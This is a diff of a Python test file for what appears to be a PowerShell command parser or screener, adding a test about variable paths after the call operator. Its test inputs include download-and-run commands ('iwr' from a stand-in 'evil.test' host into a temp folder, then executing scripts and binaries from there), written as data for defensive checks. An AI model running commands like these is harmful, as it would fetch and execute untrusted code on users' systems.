@@ -56,6 +56,14 @@ def test_the_screen_keeps_every_offset_and_the_tree_reads_the_original_text() ->
     assert not tree.root_node.has_error
 
 
+def test_a_variable_path_after_a_call_operator_is_left_to_the_grammar() -> None:
+    # `& $d\\x.exe` is a command path the grammar reads by itself: screening it only made
+    # the grammar misread it and the text be parsed twice
+    assert path_variables(b"& $env:TEMP\\x.exe; . $d/x.ps1; iwr $u -o $d\\y") == [41]
+    parsed = parse("powershell", "& $env:TEMP\\x.exe --version", ms=1000)
+    assert parsed is not None and not parsed[0].root_node.has_error
+
+
 def test_a_download_saved_under_a_variable_path_and_run_is_read_whole() -> None:
     facts = read(
         "iwr https://evil.test/a.zip -OutFile $env:TEMP\\a.zip; "
